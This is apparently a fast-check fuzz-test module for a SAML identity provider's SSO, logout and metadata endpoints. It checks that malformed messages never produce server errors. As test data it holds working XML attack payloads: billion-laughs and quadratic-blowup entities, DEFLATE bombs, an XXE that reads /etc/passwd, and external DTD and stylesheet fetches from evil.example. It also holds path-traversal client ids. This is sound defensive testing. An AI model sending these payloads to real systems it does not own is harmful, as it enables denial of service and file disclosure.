/**
 * SAML messages at /samlp/{client_id}, its logout and its metadata (#12): AuthnRequests, LogoutRequests and
 * LogoutResponses that are malformed, truncated, deeply nested, oversized or DEFLATE bombs, in other or broken
 * encodings (UTF-16, BOMs, Latin-1, cut UTF-8), with DTDs and entities (billion laughs, quadratic blowup, external
 * and parameter entities), repeated, for hostile client ids, in either binding (DEFLATE + base64 in the query,
 * base64 in a form body) or as garbage that is neither. Every answer is a page, a redirect to the login page or the error page: never a 5xx, and the
 * campaign's time limit catches a hang.
 */
import { deflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import { hostileText } from '../grammars/index.js';
import type { Family, FuzzContext, FuzzRequest } from './family.js';
import { runRequest } from './openapi-operations.js';

const ACS = 'https://sp.example/acs';

interface SamlInput {
  endpoint: 'sso' | 'logout' | 'metadata';
  binding: 'redirect' | 'post' | 'garbage';
  /** SAMLResponse: a LogoutResponse, as a service provider answers our LogoutRequest. */
  parameter: 'SAMLRequest' | 'SAMLResponse';
  xml: string;
  /** Bytes on the wire: UTF-8 (with or without a BOM), UTF-16 with a BOM, Latin-1, or UTF-8 cut inside a character. */
  encoding: 'utf8' | 'utf8-bom' | 'utf16le' | 'utf16le-bom' | 'latin1' | 'broken-utf8';
  relayState?: string;
  /** The message parameter sent twice (a repeated parameter is refused, never merged). */
  repeated: boolean;
  /** A hostile client_id in the path instead of the application's. */
  clientId?: string;
}

const clients = new Map<string, Promise<string>>();

/** One application with the samlp add-on per target, made on first use. */
function samlClient(context: FuzzContext): Promise<string> {
  let id = clients.get(context.target.url);
  if (!id) {
    id = (async () => {
      const response = await fetch(`${context.target.url}/api/v2/clients`, {
        method: 'POST',
        headers: { authorization: `Bearer ${context.token}`, 'content-type': 'application/json' },
        body: JSON.stringify({ name: 'Fuzz SAML', callbacks: [ACS], addons: { samlp: { audience: 'https://sp.example', logout: { callback: 'https://sp.example/logout' } } } }),
      });
      if (response.status !== 201) throw new Error(`creating the SAML application: ${response.status} ${await response.text()}`);
      return ((await response.json()) as { client_id: string }).client_id;
    })();
    clients.set(context.target.url, id);
  }
  return id;
}

const instant = fc.constantFrom(new Date().toISOString(), '2000-01-01T00:00:00Z', '2999-01-01T00:00:00Z', 'yesterday', '');
const attribute = fc.oneof(hostileText, fc.constantFrom(ACS, 'https://evil.example/acs', '_id', ''));

const authnRequest = fc
  .record({ id: attribute, acs: attribute, instant, issuer: hostileText, version: fc.constantFrom('2.0', '1.1'), inner: fc.constantFrom('', '<samlp:NameIDPolicy AllowCreate="true"/>', '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"/>') })
  .map(
    (r) =>
      `<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="${r.id.replace(/"/g, '')}" Version="${r.version}" IssueInstant="${r.instant}" AssertionConsumerServiceURL="${r.acs.replace(/"/g, '')}"><saml:Issuer>${r.issuer.replace(/</g, '')}</saml:Issuer>${r.inner}</samlp:AuthnRequest>`,
  );
const logoutRequest = fc
  .record({ id: attribute, nameId: hostileText })
  .map((r) => `<samlp:LogoutRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="${r.id.replace(/"/g, '')}" Version="2.0" IssueInstant="${new Date().toISOString()}"><saml:NameID>${r.nameId.replace(/</g, '')}</saml:NameID></samlp:LogoutRequest>`);
const laughs = fc
  .integer({ min: 2, max: 12 })
  .map((levels) => {
    const entities = Array.from({ length: levels }, (_, i) => (i === 0 ? '<!ENTITY l0 "lol">' : `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`)).join('');
    return `<?xml version="1.0"?><!DOCTYPE r [${entities}]><r>&l${levels - 1};</r>`;
  });
const logoutResponse = fc
  .record({ inResponseTo: attribute, status: fc.constantFrom('Success', 'Requester', 'PartialLogout', '') })
  .map((r) => `<samlp:LogoutResponse xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r" Version="2.0" IssueInstant="${new Date().toISOString()}" InResponseTo="${r.inResponseTo.replace(/"/g, '')}"><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:${r.status}"/></samlp:Status></samlp:LogoutResponse>`);
/** Small when compressed, megabytes when inflated: inflation must stop at the size bound. */
const deflateBomb = fc.integer({ min: 1, max: 8 }).map((megabytes) => `<r>${'a'.repeat(megabytes * 1024 * 1024)}</r>`);
/** One large entity referenced many times (quadratic blowup), and parameter entities. */
const quadratic = fc.integer({ min: 100, max: 2_000 }).map((n) => `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(10_000)}">]><r>${'&a;'.repeat(n)}</r>`);
const parameterEntities = fc.constant('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><r/>');
const hostileXml = fc.oneof(
  deflateBomb,
  quadratic,
  parameterEntities,
  laughs,
  fc.constant('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
  fc.constant('<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.xsl"?><r/>'),
  fc.integer({ min: 10, max: 20_000 }).map((n) => `${'<a>'.repeat(n)}${'</a>'.repeat(n)}`),
  fc.integer({ min: 1_000, max: 300_000 }).map((n) => `<r>${'x'.repeat(n)}</r>`),
  fc.tuple(authnRequest, fc.nat()).map(([xml, cut]) => xml.slice(0, cut % xml.length)),
  fc.constant('<?xml version="1.0" encoding="UTF-16"?><r/>'),
  hostileText,
);

const input: fc.Arbitrary<SamlInput> = fc.record({
  endpoint: fc.constantFrom<SamlInput['endpoint']>('sso', 'sso', 'logout', 'logout', 'metadata'),
  binding: fc.constantFrom<SamlInput['binding']>('redirect', 'post', 'garbage'),
  parameter: fc.constantFrom<SamlInput['parameter']>('SAMLRequest', 'SAMLRequest', 'SAMLResponse'),
  xml: fc.oneof({ weight: 2, arbitrary: authnRequest }, { weight: 1, arbitrary: logoutRequest }, { weight: 1, arbitrary: logoutResponse }, { weight: 3, arbitrary: hostileXml }),
  encoding: fc.constantFrom<SamlInput['encoding']>('utf8', 'utf8', 'utf8-bom', 'utf16le', 'utf16le-bom', 'latin1', 'broken-utf8'),
  // Our own RelayState shape (40 hex digits) too: a logout in progress that does not exist.
  relayState: fc.option(fc.oneof(hostileText, fc.uint8Array({ minLength: 20, maxLength: 20 }).map((b) => Buffer.from(b).toString('hex'))), { nil: undefined }),
  repeated: fc.boolean(),
  clientId: fc.option(fc.oneof(hostileText, fc.constantFrom('nope', '..%2f..', 'a'.repeat(300))), { nil: undefined }),
});

function bytesOf(inputs: SamlInput): Buffer {
  switch (inputs.encoding) {
    case 'utf8-bom':
      return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(inputs.xml, 'utf8')]);
    case 'utf16le-bom':
      return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(inputs.xml, 'utf16le')]);
    case 'broken-utf8':
      return Buffer.concat([Buffer.from(inputs.xml.slice(0, 40), 'utf8'), Buffer.from([0xe2, 0x82]), Buffer.from(inputs.xml.slice(40), 'utf8'), Buffer.from([0xc0, 0xaf, 0xff])]);
    default:
      return Buffer.from(inputs.xml, inputs.encoding);
  }
}

/**
 * A DEFLATE bomb is megabytes only once inflated; sent as is (POST or garbage), a message is cut to this, still
 * far over the server's bound, since a multi-megabyte URL or body only measures the HTTP client.
 */
const MAX_UNCOMPRESSED_BYTES = 256 * 1024;

function encoded(inputs: SamlInput): string {
  const all = bytesOf(inputs);
  const bytes = inputs.binding === 'redirect' ? all : all.subarray(0, MAX_UNCOMPRESSED_BYTES);
  if (inputs.binding === 'redirect') return deflateRawSync(bytes).toString('base64');
  if (inputs.binding === 'post') return bytes.toString('base64');
  return inputs.xml.slice(0, MAX_UNCOMPRESSED_BYTES); // neither base64 nor DEFLATE
}

export const saml: Family<SamlInput> = {
  name: 'saml',
  summary:
    'SAML messages at /samlp/{client_id}, its logout (requests and responses) and metadata: malformed, truncated, nested, oversized, DEFLATE bombs, other or broken encodings, DTDs and entities (billion laughs, quadratic blowup, XXE, parameter entities), repeated parameters, hostile client ids, both bindings and garbage',
  arbitrary: () => input,
  run: async (context, inputs) => {
    const clientId = inputs.clientId !== undefined ? encodeURIComponent(inputs.clientId) : await samlClient(context);
    const path = inputs.endpoint === 'metadata' ? `/samlp/metadata/${clientId}` : `/samlp/${clientId}${inputs.endpoint === 'logout' ? '/logout' : ''}`;
    const message = encoded(inputs);
    const params = new URLSearchParams({ [inputs.parameter]: message, ...(inputs.relayState !== undefined && { RelayState: inputs.relayState }) });
    if (inputs.repeated) params.append(inputs.parameter, message);
    const request: FuzzRequest =
      inputs.binding === 'post' && inputs.endpoint !== 'metadata'
        ? { method: 'POST', url: path, headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: params.toString() }
        : { method: 'GET', url: `${path}?${params}` };
    return runRequest(context, request);
  },
};
